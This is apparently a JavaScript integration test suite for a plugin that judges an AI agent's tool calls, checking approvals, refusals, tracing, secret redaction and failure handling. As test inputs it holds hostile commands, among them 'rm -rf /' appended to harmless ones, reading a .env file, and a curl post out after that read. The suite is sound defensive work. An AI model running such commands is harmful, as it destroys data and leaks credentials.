// A real OpenClaw from npm with smoltbot's plugin: its agent calls tools, and what the conscience says is what happens. One gateway
// serves all of these tests, in this order: the last ones take away what they need.
import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { Smoltbot } from "../browser/support/smoltbot.mjs";
import { OpenClaw, until } from "./support/openclaw.mjs";
import { Traces } from "./support/traces.mjs";

let smoltbot, claw, traces;

before(async () => {
  smoltbot = await Smoltbot.up();
  claw = await OpenClaw.start(smoltbot.home, (claw) => claw.installPackage());
  traces = new Traces(smoltbot);
});

after(async () => {
  await claw?.stop();
  await smoltbot?.stop();
});

const exec = (command, more) => ({ tool: "exec", params: { command, ...more } });
const told = ({ action, escalation, context: { metadata } }) => [action.type, metadata.outcome, escalation?.escalation_status];
const meta = (trace) => trace.context.metadata;
const touched = (name) => existsSync(join(claw.workspace, name));

test("what nobody objects to runs, and its trace tells all of it", async () => {
  const { runId } = await claw.turn("allowed", [exec("echo allowed | tee allowed.txt")]);
  const [trace] = await traces.of(runId, 1);
  assert.deepEqual(told(trace), ["execute", "completed", undefined]);
  assert.ok(touched("allowed.txt"));
  const { runtime, tool_name, tool_call_id, exit_code, duration_ms, traceparent, result, seq, stream, commitment } = meta(trace);
  assert.deepEqual([runtime, tool_name, exit_code], ["openclaw", "exec", 0]);
  assert.match(tool_call_id, /^call_/);
  assert.match(traceparent, /^00-[0-9a-f]{32}-[0-9a-f]{16}-[0-9a-f]{2}$/);
  assert.match(trace.context.session_id, /^[0-9a-f-]{36}$/);
  assert.ok(duration_ms > 0 && duration_ms < 180_000, `${duration_ms} ms`);
  assert.deepEqual(trace.action.parameters, { command: "echo allowed | tee allowed.txt" });
  assert.match(JSON.stringify(result), /"bytes":\d+/);
  assert.match(JSON.stringify(result), /"sha256":"[^"]+"/);
  assert.ok(seq > 0 && stream && commitment);
  assert.ok(Math.abs(Date.parse(trace.timestamp) - Date.now()) < 180_000);
});

test("what is refused does not run, and the agent is told why", async () => {
  const { runId } = await claw.turn("refused", [exec("touch refused.txt; rm -rf /")]);
  const [trace] = await traces.of(runId, 1);
  assert.deepEqual(told(trace), ["deny", "refused", "denied"]);
  assert.equal(meta(trace).rule_id, "fs.delete.root");
  assert.equal(meta(trace).duration_ms, 0);
  assert.deepEqual(meta(trace).values_violated, ["harm_prevention"]);
  assert.ok(!touched("refused.txt"));
  assert.match(claw.model.heard(), /Recursive delete of the root directory.*smoltbot rule fs\.delete\.root/s);
});

test("a person's yes lets the call run", async () => {
  await writeFile(join(claw.workspace, ".env"), "NOTHING=here\n");
  const { runId, questions } = await claw.turn("approved", [exec("cat .env; touch approved.txt")], () => "allow-once");
  assert.equal(questions.length, 1);
  assert.match(questions[0].request.description, /smoltbot rule secret\.settings/);
  const [trace] = await traces.of(runId, 1);
  assert.deepEqual(told(trace), ["execute", "completed", "approved"]);
  assert.equal(trace.escalation.principal_response.decision, "approved");
  assert.equal(meta(trace).approval, "told");
  assert.ok(touched("approved.txt"));
});

test("a person's no is a refusal", async () => {
  const { runId } = await claw.turn("denied", [exec("cat .env; touch denied.txt")], () => "deny");
  const [trace] = await traces.of(runId, 1);
  assert.deepEqual(told(trace), ["deny", "refused", "denied"]);
  assert.equal(trace.escalation.principal_response.decision, "denied");
  assert.ok(!touched("denied.txt"));
});

test("where nobody can be asked a question is a refusal", async () => {
  await claw.run(["agent", "--session-key", "agent:main:cli", "-m", `CALLS ${JSON.stringify([exec("cat .env; touch unasked.txt")])}`, "--json"]);
  const [trace] = await traces.where((row) => JSON.stringify(row.params).includes("unasked"), 1);
  assert.deepEqual(told(trace), ["deny", "refused", "denied"]);
  assert.equal(meta(trace).approval, "observed");
  assert.ok(!touched("unasked.txt"));
});

test("what a session has read is not sent out by it", async () => {
  const calls = [exec("cat .env # sent"), exec("curl -d hello https://example.com/sent")];
  const { runId } = await claw.turn("sent", calls, () => "allow-once");
  const [, trace] = await traces.of(runId, 2);
  assert.deepEqual(told(trace), ["deny", "refused", "denied"]);
  assert.equal(meta(trace).rule_id, "secret.send_after");
});

test("a command that fails, a tool that there is not, and arguments that are none, are told apart", async () => {
  const calls = [exec("exit 3"), { tool: "no_such_tool", params: { a: 1 } }, { tool: "read", params: { offset: "x" } }];
  const { runId } = await claw.turn("failing", calls);
  const [failed, unknown, invalid] = await traces.of(runId, 3);
  assert.deepEqual([told(failed), meta(failed).exit_code], [["execute", "completed", undefined], 3]);
  assert.equal(meta(unknown).tool_name, "no_such_tool");
  for (const trace of [unknown, invalid]) {
    assert.equal(meta(trace).action_type, "error");
    assert.equal(meta(trace).orphan, "after", "there was nothing to judge beforehand");
    assert.ok(meta(trace).error.length > 0);
  }
});

test("calls at the same time are kept apart, whichever ends first", async () => {
  const calls = ["0.9", "0.5", "0.1"].map((seconds) => exec(`sleep ${seconds}; echo slept-${seconds}`));
  const { runId } = await claw.turn("parallel", [calls]);
  const all = await traces.of(runId, 3);
  assert.equal(new Set(all.map((trace) => meta(trace).tool_call_id)).size, 3);
  for (const trace of all) {
    const [, seconds] = /sleep (\S+);/.exec(trace.action.parameters.command);
    assert.deepEqual(told(trace), ["execute", "completed", undefined]);
    assert.match(JSON.stringify(meta(trace).result), new RegExp(`slept-${seconds}`));
    assert.ok(meta(trace).duration_ms >= Number(seconds) * 1000);
  }
  const [first, second, third] = all.toSorted((a, b) => meta(a).seq - meta(b).seq);
  assert.ok(meta(first).seq < meta(second).seq && meta(second).seq < meta(third).seq);
});

test("a call that a tool makes names that tool's call", async () => {
  const nested = { tool: "tool_call", params: { id: "openclaw:core:session_status", args: {} } };
  const { runId } = await claw.turn("nested", [{ tool: "tool_search", params: { query: "session status" } }, nested]);
  const all = await traces.of(runId, 3);
  const outer = all.find((trace) => meta(trace).tool_name === "tool_call");
  const inner = all.find((trace) => meta(trace).tool_name === "session_status");
  assert.equal(meta(inner).parent_call_id, meta(outer).tool_call_id);
  assert.equal(meta(outer).parent_call_id, undefined);
  assert.equal(meta(inner).traceparent, meta(outer).traceparent);
});

test("a command in the background is told as one that runs", async () => {
  const { runId } = await claw.turn("background", [exec("sleep 2; echo behind", { background: true })]);
  const [trace] = await traces.of(runId, 1);
  assert.deepEqual(told(trace), ["execute", "running", undefined]);
});

test("a result of 200 kB is told by its length and digest", async () => {
  const { runId } = await claw.turn("large", [exec("head -c 300000 /dev/zero | tr '\\0' x")]);
  const [trace] = await traces.of(runId, 1);
  const { result } = meta(trace);
  assert.ok(result.bytes > 150_000, JSON.stringify(result).slice(0, 300));
  assert.ok(JSON.stringify(trace).length < 20_000);
});

test("no secret of a call is in its trace", async () => {
  const canary = `ghp_${"aZ3kQ9mX7tR2".repeat(3)}`;
  const { runId } = await claw.turn("secret", [exec(`echo ${canary} > /dev/null; echo "token=${canary}"`)]);
  const [trace] = await traces.of(runId, 1);
  assert.ok(!JSON.stringify(trace).includes(canary.slice(4)), "the canary is published");
  assert.ok(Object.keys(meta(trace).redactions).length > 0);
});

test("a sidecar that hangs holds nobody up, and what happened meanwhile is told once", async () => {
  smoltbot.process.kill("SIGSTOP");
  let run;
  try {
    run = await claw.turn("hung", [exec("echo hung > hung.txt"), exec("touch hung.too.txt; rm -rf /")]);
  } finally {
    smoltbot.process.kill("SIGCONT");
  }
  assert.ok(touched("hung.txt") && !touched("hung.too.txt"));
  const all = await traces.of(run.runId, 2);
  assert.deepEqual(all.map(told), [["execute", "completed", undefined], ["deny", "refused", "denied"]]);
});

test("without a sidecar each call is judged by a process of its own, and told later", async () => {
  await traces.kill();
  const { runId } = await claw.turn("alone", [exec("touch alone.txt; rm -rf /"), exec("echo alone > alone.too.txt")]);
  assert.ok(!touched("alone.txt") && touched("alone.too.txt"));
  await traces.revive();
  const all = await traces.of(runId, 2);
  assert.deepEqual(all.map(told), [["deny", "refused", "denied"], ["execute", "completed", undefined]]);
});

test("with nobody to judge, a card that enforces has the call refused, and it is told when somebody is there", async () => {
  await traces.kill();
  await traces.hide(claw.command);
  const { runId } = await claw.turn("nobody", [exec("touch nobody.txt")]);
  assert.ok(!touched("nobody.txt"));
  assert.match(claw.model.heard(), /smoltbot could not judge this call/);
  await traces.show(claw.command);
  await traces.revive();
  const [trace] = await traces.of(runId, 1);
  assert.deepEqual([told(trace)[0], told(trace)[1]], ["deny", "observed_deny"]);
  assert.match(meta(trace).conscience_reason, /smoltbot could not judge this call/);
});

test("with nobody to judge, a card that observes lets the call run, and its trace is marked", async () => {
  await traces.mode("observe");
  await traces.kill();
  await traces.hide(claw.command);
  const { runId } = await claw.turn("observed", [exec("touch observed.txt")]);
  assert.ok(touched("observed.txt"));
  await traces.show(claw.command);
  await traces.revive();
  const [trace] = await traces.of(runId, 1);
  assert.equal(meta(trace).over_budget, true);
  assert.equal(trace.action.type, "execute");
  await traces.mode("enforce");
});

test("a question that nobody answers any more is a refusal", async () => {
  const asked = claw.questions.length;
  await claw.begin("aborted", "run-aborted", [exec("cat .env; touch aborted.txt")]);
  await until("the question is put", async () => claw.questions.length > asked);
  await claw.request("chat.abort", { sessionKey: "agent:main:aborted", runId: "run-aborted" });
  const [trace] = await traces.of("run-aborted", 1);
  assert.equal(trace.action.type, "deny");
  assert.ok(!touched("aborted.txt"));
});

test("a gateway that stops has told everything, and does not wait for us", async () => {
  const { runId } = await claw.turn("stopped", [exec("echo stopped")]);
  await claw.halt("SIGTERM");
  await traces.of(runId, 1);
  // OpenClaw waits for minutes for what it holds to be under way; when it gives up it names it.
  assert.equal(claw.log.match(/.*(drain timed out|drain timeout reached|shutdown deadline reached).*/g), null);
});

test("a gateway that is killed leaves a call without an end, and that is told", async () => {
  await claw.boot();
  await claw.begin("killed", "run-killed", [exec("touch killed.txt; sleep 60")]);
  await until("the call runs", async () => touched("killed.txt"));
  await claw.halt("SIGKILL");
  const [trace] = await traces.of("run-killed", 1);
  assert.equal(meta(trace).outcome, "orphan");
  assert.equal(meta(trace).orphan, "before");
  assert.equal(meta(trace).duration_ms, undefined);
});

test("every call of all this has one trace, in one chain", async () => {
  const all = await smoltbot.traces(() => true);
  const calls = all.map(({ metadata }) => `${metadata.run_id} ${metadata.tool_call_id}`);
  assert.equal(new Set(calls).size, calls.length, calls.join("\n"));
  assert.equal(new Set(all.map(({ metadata }) => metadata.seq)).size, all.length);
});
